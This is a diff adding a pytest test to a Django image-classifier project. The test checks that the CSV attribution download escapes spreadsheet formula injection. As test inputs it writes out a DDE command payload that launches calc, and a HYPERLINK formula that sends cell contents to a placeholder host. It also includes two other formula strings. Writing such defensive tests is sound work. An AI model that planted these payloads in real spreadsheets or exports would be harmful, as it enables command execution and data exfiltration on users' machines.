@@ -3,6 +3,9 @@ markup never reaches a page's HTML, whichever page, message, report or answer ca
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from bs4 import BeautifulSoup
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -15,6 +18,7 @@ from classifiers.services.catalog import classifier_create
 from classifiers.services.training import training_run_create, training_run_execute
 from scraper.services import examples_add_uploads
 from tests.classifiers.views.conftest import photo_upload
+from tests.fakes.images import photo
 from tests.urlwalk import site_routes
 from tests.worlds import full_classifier
 
@@ -114,3 +118,15 @@ def test_the_try_it_answer_names_the_class_as_text(ada):
     assert answer["Content-Type"] == "application/json"
     assert answer.json()["answer"]["label"] == EVIL  # data, for the page's script to set as text
     assert Classifier.objects.get(id=classifier.id).labels.filter(name=EVIL).exists()
+
+
+def test_photo_credits_never_start_a_spreadsheet_cell_with_a_formula(ada):
+    classifier = classifier_create(owner=ada[0], name="Sheets", label_names=["=cmd|' /C calc'!A0", "b"])
+    label = classifier.labels.get(name__startswith="=")
+    [example] = examples_add_uploads(label=label, files=[SimpleUploadedFile("a.jpg", photo(7))]).added
+    example.title, example.author, example.license = '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)", "\t=1+1"
+    example.save()
+    rows = list(csv.DictReader(io.StringIO(ada[1].get(
+        reverse("attribution_download", args=[classifier.id, "csv"])).content.decode())))
+    assert [(row["class"], row["title"], row["author"], row["license"]) for row in rows] == [
+        ("'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(1+1)", "'\t=1+1")]
